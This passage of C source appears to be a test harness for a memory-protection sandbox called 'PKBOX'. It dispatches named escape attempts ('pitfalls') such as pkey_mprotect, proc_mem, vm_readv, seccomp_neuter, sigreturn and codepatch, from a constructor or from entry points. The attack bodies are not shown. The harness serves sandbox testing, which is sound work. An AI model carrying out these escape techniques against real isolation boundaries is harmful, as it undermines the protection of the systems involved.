	for (size_t i = 0; name && i < sizeof(pitfalls) / sizeof(pitfalls[0]); i++)
		if (!strcmp(pitfalls[i].name, name))
			return &pitfalls[i];
	return NULL;
}

__attribute__((constructor)) static void pitfalls_ctor(void)
{
	const struct pitfall *p = find(getenv("PKBOX_PITFALL_CTOR"));

	if (p) {
		from_ctor = p;
		p->setup();
	}
}

#define ENTRY(n) int n(int argc, char **argv); int n(int argc, char **argv)

/* the use half of whatever the constructor set up */
ENTRY(pf_use)
{
	(void)argc; (void)argv;
	if (!from_ctor) {
		fprintf(stderr, "pf_use: PKBOX_PITFALL_CTOR names no attack\n");
		return 2;
	}
	return from_ctor->use();
}

/* both halves from the entry point */
static int both(const char *name)
{
	const struct pitfall *p = find(name);

	p->setup();
	return p->use();
}

#define BOTH(n) ENTRY(pf_##n) { (void)argc; (void)argv; return both(#n); }
BOTH(basecase)
BOTH(pkey_mprotect)
BOTH(mprotect32)
BOTH(mremap)
BOTH(proc_mem)
BOTH(vm_readv)
BOTH(file_backed)
BOTH(shared_memory)
BOTH(map_race)
BOTH(scan_race)
BOTH(seccomp)
BOTH(sighandler)
BOTH(sigreturn)
BOTH(helper)
BOTH(clonevm)
BOTH(seccomp_neuter)
BOTH(rseq)
BOTH(codepatch)
BOTH(sigdfl)
BOTH(forkspin)
BOTH(mapcount)
BOTH(rwx)
BOTH(procfd)
